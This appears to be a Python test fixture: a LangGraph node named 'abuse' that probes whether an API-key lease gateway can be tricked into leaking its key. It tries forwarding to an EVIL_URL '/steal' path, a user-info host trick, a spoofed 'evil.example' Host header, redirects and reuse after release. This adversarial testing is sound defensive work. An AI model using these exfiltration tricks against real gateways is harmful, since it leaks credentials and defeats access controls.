"""A graph that tries to get at the key behind its lease, in the ways that the gateway leaves open."""

from __future__ import annotations

import http.client
import os
from typing import Any, TypedDict
from urllib.parse import urlsplit

from journal import note
from langgraph.graph import END, START, StateGraph

from agentos.keys.leases import Ask, Lease
from agentos.llm import current_broker
from agentos.providers.evidence import Abandoned


class State(TypedDict, total=False):
    answers: dict[str, Any]


def _send(lease: Lease, target: str, **more: str) -> str:
    connection = http.client.HTTPConnection(urlsplit(lease.through).netloc, timeout=30)
    headers = {"x-agentos-lease": lease.secret, "x-agentos-target": target, "x-goog-api-key": lease.secret, **more}
    try:
        connection.request("POST", "/", b"{}", headers)
        reply = connection.getresponse()
        return f"{reply.status} {reply.getheader('x-agentos-failure')} {reply.read().decode()}"
    finally:
        connection.close()


def abuse(state: State) -> State:
    own, evil = os.environ["OWN_URL"], os.environ["EVIL_URL"]
    lease = current_broker().acquire(Ask(provider="google", model="gemini-2.5-flash"))
    note(f"elsewhere: {_send(lease, f'{evil}/steal')}")
    note(f"elsewhere by name: {_send(lease, f'{own}@{urlsplit(evil).netloc}/steal')}")
    note(f"nowhere: {_send(lease, '')}")
    note(f"foreign host: {_send(lease, f'{own}/quote', host='evil.example')}")
    note(f"quoted: {_send(lease, f'{own}/quote')}")
    note(f"redirected: {_send(lease, f'{own}/redirect')}")
    current_broker().release(lease, Abandoned())
    # The one key is leased again only when the first lease is known to be over.
    current_broker().acquire(Ask(provider="google", model="gemini-2.5-flash"))
    note(f"afterwards: {_send(lease, f'{own}/quote')}")
    return {}


graph = StateGraph(State)
graph.add_node("abuse", abuse)
graph.add_edge(START, "abuse")
graph.add_edge("abuse", END)
